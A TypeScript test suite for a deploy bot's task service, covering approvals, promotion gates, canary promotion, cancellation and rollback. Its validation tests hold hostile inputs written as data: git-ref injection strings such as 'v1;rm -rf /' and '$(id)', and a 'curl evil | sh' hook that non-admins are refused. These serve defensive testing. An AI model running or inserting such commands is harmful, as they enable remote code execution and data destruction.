import { marksAsText } from '../../src/core/mention.js';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { AuditEvent, DeployTask, Project } from '../../src/db/entities/index.js';
import { SelfApprovalNeedsConfirmation } from '../../src/core/tasks/task-service.js';
import type { Actor } from '../../src/core/actor.js';
import { admin, alice, bob, createTestDatabase, STORE_KINDS, type TestDatabase } from '../support/db/database.js';
import { usePostgres } from '../support/db/use-postgres.js';

const postgres = usePostgres();

describe.each(STORE_KINDS)('TaskService on %s', (kind) => {
  let db: TestDatabase;
  const carol: Actor = { id: 'UCAROL01', isAdmin: false };

  beforeEach(async () => {
    await db?.close();
    db = await createTestDatabase({ kind, postgres });
    await db.services().servers.add(admin, { name: 'web-1', hostname: 'web-1.example.com', username: 'deploy', authKind: 'agent' });
    await db.services().projects.add(admin, { name: 'site', repoUrl: 'https://example.com/site.git', deployPath: '/srv/site', servers: ['web-1'], hooks: { after_deploy: 'systemctl reload site' } });
    await db.services().projects.add(admin, {
      name: 'api',
      repoUrl: 'https://example.com/api.git',
      deployPath: '/srv/api',
      servers: ['web-1'],
      environment: 'prod',
      approvers: [alice.id, admin.id],
    });
  });
  afterAll(() => db?.close());

  it('makes a test-project deploy ready at once, copying the hooks', async () => {
    const task = await db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v1.2.0' });
    expect(task).toMatchObject({ project: 'site', ref: 'v1.2.0', status: 'approved', requestedBy: bob.id });
    expect(task.hooks.after_deploy).toBe('systemctl reload site');
  });

  it('refuses dangerous refs before anything is stored', async () => {
    for (const ref of ['--upload-pack=touch /tmp/x', 'v1;rm -rf /', 'a b', 'x..y', '$(id)', '']) {
      await expect(db.services().tasks.requestDeploy(bob, { project: 'site', ref })).rejects.toThrow(/Cannot request the deploy/);
    }
    expect(await db.em().count(DeployTask, {})).toBe(0);
  });

  it('only lets admins change hook scripts for one deploy', async () => {
    await expect(db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'main', hooks: { before_deploy: 'curl evil | sh' } })).rejects.toThrow(/Only admins can change hook scripts/);
    const task = await db.services().tasks.requestDeploy(admin, { project: 'site', ref: 'main', hooks: { before_deploy: 'echo hi' } });
    expect(task.hooks.before_deploy).toBe('echo hi');
  });

  it('runs the prod approval rules', async () => {
    const task = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v2' });
    expect(task.status).toBe('awaiting_approval');

    await expect(db.services().tasks.approve(carol, task.id)).rejects.toThrow(/Only the approvers of api/);
    const approved = await db.services().tasks.approve(alice, task.id);
    expect(approved).toMatchObject({ status: 'approved', approvedBy: alice.id });
    await expect(db.services().tasks.approve(admin, task.id)).rejects.toThrow(/nothing to approve/);
  });

  it('needs N distinct approvers with approvals=N: never the requester, never the same approver twice', async () => {
    await expect(db.services().projects.edit(admin, 'api', { requiredApprovals: 3 })).rejects.toThrow(/approvals=3 needs at least 3 approvers, and the project has 2/);
    await db.services().projects.edit(admin, 'api', { approvers: [alice.id, admin.id, carol.id], requiredApprovals: 2 });
    const task = await db.services().tasks.requestDeploy(alice, { project: 'api', ref: 'v2' });
    const refusal = (p: Promise<unknown>) => p.then(() => 'no refusal', (err: Error) => marksAsText(err.message));
    expect(await refusal(db.services().tasks.approve(alice, task.id))).toBe(`You requested deploy #${task.id}, so your approval does not count: it needs 2 approvals from other approvers (<@UADMIN01>, <@UCAROL01>).`);
    await expect(db.services().tasks.approve(alice, task.id, { confirmSelf: true })).rejects.toThrow(/your approval does not count/);
    const first = await db.services().tasks.approve(carol, task.id);
    expect(first.status).toBe('awaiting_approval');
    expect(first.approvals?.map((a) => a.by)).toEqual([carol.id]);
    expect(await refusal(db.services().tasks.approve(carol, task.id))).toBe(`You already approved deploy #${task.id}: it needs 1 more approval from another approver (<@UADMIN01>).`);
    const second = await db.services().tasks.approve(admin, task.id);
    expect(second).toMatchObject({ status: 'approved', approvedBy: admin.id, requiredApprovals: 2 });
    expect(second.approvals?.map((a) => a.by)).toEqual([carol.id, admin.id]);
    const audits = await db.em().find(AuditEvent, { action: 'task.approve', target: `task:${task.id}` }, { orderBy: { id: 'asc' } });
    expect(audits.map((a) => [a.actor, a.details])).toEqual([[carol.id, { selfApproved: false, approval: 1, of: 2 }], [admin.id, { selfApproved: false, approval: 2, of: 2 }]]);
  });

  it('deploys to a project with promote_from only commits that succeeded on its test project; an admin may override, audited', async () => {
    const sha = (c: string) => c.repeat(40);
    await expect(db.services().projects.edit(admin, 'api', { promoteFrom: 'nope' })).rejects.toThrow(/No project named nope to promote from/);
    await expect(db.services().projects.edit(admin, 'api', { promoteFrom: 'api' })).rejects.toThrow(/cannot promote from itself/);
    await db.services().projects.edit(admin, 'api', { promoteFrom: 'site' });
    const tested = await db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v2', commit: sha('a') });
    // What the runner writes at the end of a successful deploy (the runner is not under test here).
    await db.em().nativeUpdate(DeployTask, { id: tested.id }, { status: 'success', finishedAt: new Date() });
    const proven = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v2', commit: sha('a') });
    expect(proven.promotion).toMatchObject({ project: 'site', taskId: tested.id });
    await db.services().tasks.cancel(admin, proven.id);
    await expect(db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v3', commit: sha('b') })).rejects.toThrow(
      'v3 (bbbbbbb) has not succeeded on site yet, and api deploys only what has: deploy it there first (`/deploy site v3`), or an admin can override with a reason: `/deploy api v3 override="why"`.',
    );
    await expect(db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v3', commit: sha('b'), override: 'hotfix' })).rejects.toThrow(/Only admins can override/);
    const overridden = await db.services().tasks.requestDeploy(admin, { project: 'api', ref: 'v3', commit: sha('b'), override: 'outage hotfix' });
    expect(overridden).toMatchObject({ promotion: null, overrideReason: 'outage hotfix' });
    const audit = await db.em().findOneOrFail(AuditEvent, { action: 'task.gate_override', target: `task:${overridden.id}` });
    expect(audit.details).toMatchObject({ gate: 'promotion', from: 'site', reason: 'outage hotfix' });
    expect(await db.em().count(DeployTask, { project: { name: 'api' }, commit: sha('b') })).toBe(1);
  });

  it('refuses self-approval, except an admin who confirms it', async () => {
    const own = await db.services().tasks.requestDeploy(alice, { project: 'api', ref: 'v2' });
    await expect(db.services().tasks.approve(alice, own.id)).rejects.toThrow(/cannot approve it yourself/);

    const adminOwn = await db.services().tasks.requestDeploy(admin, { project: 'api', ref: 'v3' });
    await expect(db.services().tasks.approve(admin, adminOwn.id)).rejects.toBeInstanceOf(SelfApprovalNeedsConfirmation);
    expect((await db.services().tasks.show(adminOwn.id)).status).toBe('awaiting_approval');
    const confirmed = await db.services().tasks.approve(admin, adminOwn.id, { confirmSelf: true });
    expect(confirmed.status).toBe('approved');
    const audit = await db.em().findOneOrFail(AuditEvent, { action: 'task.approve', target: `task:${adminOwn.id}` });
    expect(audit.details).toEqual({ selfApproved: true });
  });

  it('rejects with a reason, by approvers only', async () => {
    const task = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v2' });
    await expect(db.services().tasks.reject(bob, task.id, 'nope')).rejects.toThrow(/Only the approvers/);
    await expect(db.services().tasks.reject(alice, task.id, '   ')).rejects.toThrow(/Say why/);
    const rejected = await db.services().tasks.reject(alice, task.id, 'release freeze until Monday');
    expect(rejected).toMatchObject({ status: 'rejected', rejectedBy: alice.id, rejectReason: 'release freeze until Monday' });
    await expect(db.services().tasks.approve(admin, task.id)).rejects.toThrow(/rejected/);
  });

  it('keeps a scheduled prod deploy scheduled after approval', async () => {
    const now = new Date('2026-11-23T10:00:00Z');
    const at = new Date('2026-11-23T18:00:00Z');
    const task = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v2', scheduledAt: at }, now);
    expect(task.status).toBe('awaiting_approval');
    const approved = await db.services().tasks.approve(alice, task.id, {}, now);
    expect(approved.status).toBe('scheduled');
    expect(approved.scheduledAt).toEqual(at);
    await expect(db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v2', scheduledAt: new Date(now.getTime() - 1000) }, now)).rejects.toThrow(/in the past/);
  });

  it('cancels waiting tasks for the requester, approvers and admins only', async () => {
    const task = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v2' });
    await expect(db.services().tasks.cancel(carol, task.id)).rejects.toThrow(/Only the requester/);
    const { task: cancelled, wasRunning } = await db.services().tasks.cancel(bob, task.id);
    expect(cancelled.status).toBe('cancelled');
    expect(wasRunning).toBe(false);
    await expect(db.services().tasks.cancel(bob, task.id)).rejects.toThrow(/nothing to cancel/);
  });

  it('promotes a prod canary once it passed: an approver who did not request it, or an admin with a reason (audited); one winner', async () => {
    await db.services().projects.edit(admin, 'api', { rollout: 'canary:1' });
    const text = (p: Promise<unknown>) => p.then(() => 'no error', (err: Error) => marksAsText(err.message));
    const running = async (requester: Actor, ref: string, passed = true) => {
      const t = await db.services().tasks.requestDeploy(requester, { project: 'api', ref });
      await db.em().nativeUpdate(DeployTask, { id: t.id }, { status: 'running', ownerId: 'bot@test', canaryPassedAt: passed ? new Date() : null });
      return t;
    };
    const queued = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v1' });
    expect(await text(db.services().tasks.promote(alice, queued.id))).toBe(`Deploy #${queued.id} is waiting for approval: it has not started, so there is no canary to promote yet.`);
    await db.em().nativeUpdate(DeployTask, { id: queued.id }, { status: 'cancelled' });

    const early = await running(bob, 'v2', false);
    expect(await text(db.services().tasks.promote(alice, early.id))).toMatch(/is not waiting for a Promote yet: its canary has not passed its checks/);
    await db.em().nativeUpdate(DeployTask, { id: early.id }, { status: 'failed' });

    const t = await running(bob, 'v3');
    expect(await text(db.services().tasks.promote(bob, t.id))).toBe(`You requested deploy #${t.id}, so you cannot promote it yourself: ask another approver (<@${alice.id}>, <@${admin.id}>).`);
    expect(await text(db.services().tasks.promote(carol, t.id))).toBe(`Only the approvers of api (<@${alice.id}>, <@${admin.id}>) can promote deploy #${t.id}.`);
    expect(await text(db.services().tasks.promote(alice, t.id, { override: 'because' }))).toMatch(/Only admins can promote with `override="why"`/);
    const promoted = await db.services().tasks.promote(alice, t.id);
    expect(promoted).toMatchObject({ status: 'running', promotedBy: alice.id, promoteReason: null });
    expect(promoted.promotedAt).toBeInstanceOf(Date);
    expect(await text(db.services().tasks.promote(admin, t.id))).toBe(`Deploy #${t.id} was already promoted by <@${alice.id}>; the rest of its servers are following: there is nothing to promote.`);
    expect((await db.em().findOneOrFail(AuditEvent, { action: 'task.promote', target: `task:${t.id}` })).details).toEqual({ selfPromoted: false, reason: null });
    await db.em().nativeUpdate(DeployTask, { id: t.id }, { status: 'success' });

    const own = await running(admin, 'v4');
    expect(await text(db.services().tasks.promote(admin, own.id))).toBe(`You requested deploy #${own.id} yourself. As an admin you may promote it, but only with a reason, which is audited: \`promote ${own.id} override="why"\`.`);
    const self = await db.services().tasks.promote(admin, own.id, { override: 'alice is off today' });
    expect(self).toMatchObject({ promotedBy: admin.id, promoteReason: 'alice is off today' });
    expect((await db.em().findOneOrFail(AuditEvent, { action: 'task.gate_override', target: `task:${own.id}` })).details).toMatchObject({ gate: 'canary promote', reason: 'alice is off today' });
    await db.em().nativeUpdate(DeployTask, { id: own.id }, { status: 'success' });

    // Simultaneous clicks: exactly one promotion is recorded, the others are told who won.
    const raced = await running(bob, 'v5');
    const results = await Promise.allSettled([alice, admin, alice].map((a, i) => db.services().tasks.promote(a, raced.id, i === 1 ? { override: 'me too' } : {})));
    expect(results.filter((r) => r.status === 'fulfilled')).toHaveLength(1);
    for (const r of results) if (r.status === 'rejected') expect(marksAsText((r.reason as Error).message)).toMatch(/was already promoted by <@U/);
    expect(await db.em().count(AuditEvent, { action: 'task.promote', target: `task:${raced.id}` })).toBe(1);
  });

  it('promote refuses a deploy that does not wait for one, and a cancel in progress', async () => {
    const t = await db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v1' });
    await db.em().nativeUpdate(DeployTask, { id: t.id }, { status: 'running', ownerId: 'bot@test' });
    await expect(db.services().tasks.promote(alice, t.id)).rejects.toThrow(/does not wait for a Promote: only deploys of prod projects with a canary/);
    await db.em().nativeUpdate(DeployTask, { id: t.id }, { canaryPassedAt: new Date(), cancelledBy: bob.id });
    await expect(db.services().tasks.promote(admin, t.id)).rejects.toThrow(/is being cancelled by/);
  });

  it('lists tasks newest first, per project', async () => {
    await db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v1' });
    await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v1' });
    await db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v2' });
    expect((await db.services().tasks.list()).map((t) => `${t.project}@${t.ref}`)).toEqual(['site@v2', 'api@v1', 'site@v1']);
    expect((await db.services().tasks.list({ project: 'site' })).map((t) => t.ref)).toEqual(['v2', 'v1']);
    await expect(db.services().tasks.show(999)).rejects.toThrow(/There is no deploy #999/);
    await expect(db.services().tasks.list({ project: 'nope' })).rejects.toThrow(/No project named nope/);
  });

  it('rolls back only for admins and approvers, and refuses while locked', async () => {
    await expect(db.services().tasks.requestRollback(carol, 'api', undefined)).rejects.toThrow(/Only admins and the approvers/);
    // Nothing ever went live: the target cannot be pinned, and nothing is recorded.
    await expect(db.services().tasks.requestRollback(alice, 'api', undefined)).rejects.toThrow(/No release of api is recorded as live yet/);
    const em = db.em();
    const project = await em.findOneOrFail(Project, { name: 'api' });
    project.lockedBy = 'UADMIN01';
    project.lockReason = 'db migration';
    await em.flush();
    await expect(db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v9' })).rejects.toThrow(/locked by \uFDD0[0-9a-f]{12}@UADMIN01\uFDD1: db migration/);
    await expect(db.services().tasks.requestRollback(alice, 'api', undefined)).rejects.toThrow(/locked by \uFDD0[0-9a-f]{12}@UADMIN01\uFDD1: db migration/);
  });
});
